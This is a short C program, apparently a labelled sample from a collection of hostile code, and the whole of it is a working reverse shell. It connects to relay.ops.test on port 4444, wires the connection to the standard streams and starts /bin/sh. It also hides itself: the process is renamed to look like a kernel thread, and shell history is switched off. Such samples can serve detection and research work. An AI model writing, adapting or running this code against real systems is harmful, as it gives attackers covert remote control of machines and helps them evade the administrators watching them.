// class: shell; possible: low medium; style: C, dup2 and execve, argv renamed
#include <netdb.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void)
{
    struct addrinfo hint, *list, *a;
    int fd = -1;
    memset(&hint, 0, sizeof hint);
    hint.ai_socktype = SOCK_STREAM;
    if (getaddrinfo("relay.ops.test", "4444", &hint, &list))
        return 1;
    for (a = list; a; a = a->ai_next) {
        fd = socket(a->ai_family, a->ai_socktype, a->ai_protocol);
        if (fd >= 0 && !connect(fd, a->ai_addr, a->ai_addrlen))
            break;
        close(fd);
        fd = -1;
    }
    if (fd < 0)
        return 1;
    for (int i = 0; i < 3; i++)
        dup2(fd, i);
    char *argv[] = {"[jbd2/sda1-8]", NULL}, *envp[] = {"PATH=/usr/bin:/bin", "HISTFILE=", NULL};
    execve("/bin/sh", argv, envp);
    return 1;
}
